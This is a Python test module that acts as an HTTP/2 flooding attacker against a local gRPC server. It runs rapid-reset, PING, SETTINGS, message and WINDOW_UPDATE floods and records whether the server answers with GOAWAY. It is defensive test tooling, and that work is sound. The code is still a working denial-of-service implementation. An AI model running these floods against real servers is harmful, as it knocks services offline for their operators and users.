"""An HTTP/2 attacker, run as its own process: ``python -m tests.attacks.h2_flood KIND PORT``.

It opens one HTTP/2 connection (cleartext, or TLS with ALPN ``h2`` when ``--cafile`` is given)
with the ``h2`` library, then floods it with one kind of frame for ``--seconds`` while reading
everything the server sends, as a real attacker that wants the answers would. It prints one JSON
line: the GOAWAY error code it received (or null), whether the server closed the connection,
and how many attack units (streams, pings, frames) it sent.

The flood repeats h2's own encoding: the first requests go through ``h2``, and the next ones
reuse the HPACK block h2's encoder produces for the same headers once they are indexed, so the
attacker can outrun the server on one core.

Kinds:

``rapid_reset``  HEADERS for an Events call, then RST_STREAM(CANCEL), on ever new streams.
``ping``         PING frames.
``settings``     SETTINGS frames that change nothing.
``messages``     one Events stream, then v2 ``Request`` messages of 10 bytes, packed into full DATA
                 frames as fast as the server's flow-control windows allow: each one changes the
                 subscription, so 64 KiB of them is most of a second of work for the server.
``window``       INITIAL_WINDOW_SIZE 0 and one Events stream for type ``amp``; after
                 ``--warmup`` seconds (the test fills the stream's backlog meanwhile), 1-byte
                 WINDOW_UPDATEs on it.
"""

from __future__ import annotations

import argparse
import itertools
import json
import select
import socket
import ssl
import sys
import time
from collections.abc import Iterator

import h2.config
import h2.connection
import h2.settings

__all__ = ["EVENTS_HEADERS", "attack", "main"]

EVENTS_HEADERS = [
    (b":method", b"POST"),
    (b":scheme", b"http"),
    (b":path", b"/proto.StreamService/Events"),
    (b":authority", b"127.0.0.1"),
    (b"content-type", b"application/grpc"),
    (b"te", b"trailers"),
]
GOAWAY = 0x7
WINDOW_UPDATE = 0x8
CHUNK = 32 * 1024  # bytes of attack queued per socket write


def frame(kind: int, flags: int, stream_id: int, payload: bytes = b"") -> bytes:
    return (
        len(payload).to_bytes(3, "big")
        + bytes((kind, flags))
        + stream_id.to_bytes(4, "big")
        + payload
    )


def grpc_message(message: bytes) -> bytes:
    return b"\x00" + len(message).to_bytes(4, "big") + message


def events_request(*types: str) -> bytes:
    """A ``proto.Request`` on the wire: repeated ``EventType Events = 1`` (``string type = 1``)."""
    out = b""
    for t in types:
        inner = b"\x0a" + _varint(len(t.encode())) + t.encode()
        out += b"\x0a" + _varint(len(inner)) + inner
    return out


def _varint(n: int) -> bytes:
    out = bytearray()
    while True:
        byte = n & 0x7F
        n >>= 7
        if n:
            out.append(byte | 0x80)
        else:
            out.append(byte)
            return bytes(out)


class Flood:
    """The connection's opening bytes, and a generator of attack chunks."""

    def __init__(self, kind: str) -> None:
        config = h2.config.H2Configuration(client_side=True, header_encoding=None)
        self.conn = h2.connection.H2Connection(config)
        self.kind = kind
        self.units = 0
        self.window: Window | None = None
        self.quiet_until = 0.0
        if kind == "window":
            self.conn.local_settings = h2.settings.Settings(
                client=True, initial_values={h2.settings.SettingCodes.INITIAL_WINDOW_SIZE: 0}
            )
        self.conn.initiate_connection()
        self.chunks: Iterator[bytes] = getattr(self, "_" + kind)()

    def opening(self) -> bytes:
        return bytes(self.conn.data_to_send())

    def _repeat_block(self) -> bytes:
        """HEADERS block for one more Events call, once h2 has indexed every field."""
        return bytes(self.conn.encoder.encode(EVENTS_HEADERS))

    def _rapid_reset(self) -> Iterator[bytes]:
        for sid in (1, 3):
            self.conn.send_headers(sid, EVENTS_HEADERS)
            self.conn.reset_stream(sid, 8)
        block = self._repeat_block()
        rst = b"\x00\x00\x00\x08"  # CANCEL
        for start in itertools.count(5, 2 * 500):
            parts = []
            for sid in range(start, start + 2 * 500, 2):
                parts.append(frame(0x1, 0x4, sid, block))
                parts.append(frame(0x3, 0x0, sid, rst))
            self.units += 500
            yield b"".join(parts)

    def _ping(self) -> Iterator[bytes]:
        while True:
            self.units += 1000
            yield b"".join(frame(0x6, 0, 0, i.to_bytes(8, "big")) for i in range(1000))

    def _settings(self) -> Iterator[bytes]:
        setting = (0x4).to_bytes(2, "big") + (65535).to_bytes(4, "big")  # the default window
        while True:
            self.units += 1000
            yield frame(0x4, 0, 0, setting) * 1000

    def _messages(self) -> Iterator[bytes]:
        self.conn.send_headers(1, EVENTS_HEADERS)
        first = grpc_message(events_request("flood:0"))
        self.conn.send_data(1, first)
        if self.window is not None:
            self.window.spend(len(first))
        yield b""
        # Alternate between two one-type subscriptions: every message is a real change.
        pair = grpc_message(events_request("a")) + grpc_message(events_request("b"))
        payload = pair * (16380 // len(pair))  # one full DATA frame
        full = frame(0x0, 0, 1, payload)
        while True:
            if self.window is None or self.window.available() < len(payload):
                yield b""
                continue
            self.window.spend(len(payload))
            self.units += 2 * (16380 // len(pair))
            yield full

    def _window(self) -> Iterator[bytes]:
        self.conn.send_headers(1, EVENTS_HEADERS)
        self.conn.send_data(1, grpc_message(events_request("amp")))
        yield b""
        one = frame(0x8, 0, 1, (1).to_bytes(4, "big"))
        while time.monotonic() < self.quiet_until:
            yield b""
        while True:
            self.units += 1000
            yield one * 1000


class Window:
    """The server's flow-control windows for stream 1 and the connection (65,535 each at start)."""

    def __init__(self) -> None:
        self.connection = 65535
        self.stream = 65535

    def available(self) -> int:
        return min(self.connection, self.stream)

    def spend(self, n: int) -> None:
        self.connection -= n
        self.stream -= n

    def update(self, stream_id: int, increment: int) -> None:
        if stream_id == 0:
            self.connection += increment
        elif stream_id == 1:
            self.stream += increment


class Reader:
    """Follows the server's frames just far enough to notice a GOAWAY and window updates."""

    def __init__(self) -> None:
        self.buffer = bytearray()
        self.goaway: int | None = None
        self.goaway_text = b""
        self.received = 0
        self.window = Window()

    def feed(self, data: bytes) -> None:
        self.received += len(data)
        buf = self.buffer
        buf += data
        pos = 0
        while len(buf) - pos >= 9:
            length = int.from_bytes(buf[pos : pos + 3], "big")
            if len(buf) - pos < 9 + length:
                break
            kind = buf[pos + 3]
            if kind == WINDOW_UPDATE and length == 4:
                stream_id = int.from_bytes(buf[pos + 5 : pos + 9], "big") & 0x7FFFFFFF
                increment = int.from_bytes(buf[pos + 9 : pos + 13], "big") & 0x7FFFFFFF
                self.window.update(stream_id, increment)
            if kind == GOAWAY and self.goaway is None:
                payload = bytes(buf[pos + 9 : pos + 9 + length])
                self.goaway = int.from_bytes(payload[4:8], "big")
                self.goaway_text = payload[8:200]
            pos += 9 + length
        del buf[:pos]


def attack(
    kind: str, port: int, seconds: float, cafile: str | None = None, warmup: float = 0.0
) -> dict[str, object]:
    raw = socket.create_connection(("127.0.0.1", port), timeout=5)
    sock: socket.socket = raw
    if cafile:
        context = ssl.create_default_context(cafile=cafile)
        context.set_alpn_protocols(["h2"])
        sock = context.wrap_socket(raw, server_hostname="localhost")
        assert sock.selected_alpn_protocol() == "h2", sock.selected_alpn_protocol()
    flood = Flood(kind)
    reader = Reader()
    flood.window = reader.window
    flood.quiet_until = time.monotonic() + warmup
    chunk = next(flood.chunks)  # the first chunk goes through h2, so its output comes first
    out = bytearray(flood.opening() + chunk)
    closed = False
    sock.setblocking(False)
    started = time.monotonic()
    deadline = started + seconds
    closed_after: float | None = None
    while time.monotonic() < deadline and not closed:
        while len(out) < CHUNK and (chunk := next(flood.chunks)):
            out += chunk
        readable, writable, _ = select.select([sock], [sock] if out else [], [], 0.01)
        if readable or (isinstance(sock, ssl.SSLSocket) and sock.pending()):
            try:
                while True:
                    data = sock.recv(262144)
                    if not data:
                        closed = True
                        break
                    reader.feed(data)
            except (ssl.SSLWantReadError, ssl.SSLWantWriteError, BlockingIOError):
                pass
            except OSError:
                closed = True
        if writable and not closed:
            try:
                sent = sock.send(out[:CHUNK])
                del out[:sent]
            except (ssl.SSLWantReadError, ssl.SSLWantWriteError, BlockingIOError):
                pass
            except OSError:
                closed = True
        if closed:
            closed_after = time.monotonic() - started
    sock.close()
    return {
        "kind": kind,
        "goaway": reader.goaway,
        "goaway_text": reader.goaway_text.decode(errors="replace"),
        "closed": closed,
        "closed_after": closed_after,
        "units": flood.units,
        "received": reader.received,
    }


def main(argv: list[str] | None = None) -> None:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("kind", choices=["rapid_reset", "ping", "settings", "messages", "window"])
    parser.add_argument("port", type=int)
    parser.add_argument("--seconds", type=float, default=4.0)
    parser.add_argument("--cafile")
    parser.add_argument("--warmup", type=float, default=0.0)
    args = parser.parse_args(argv)
    result = attack(args.kind, args.port, args.seconds, args.cafile, args.warmup)
    sys.stdout.write(json.dumps(result) + "\n")


if __name__ == "__main__":
    main()
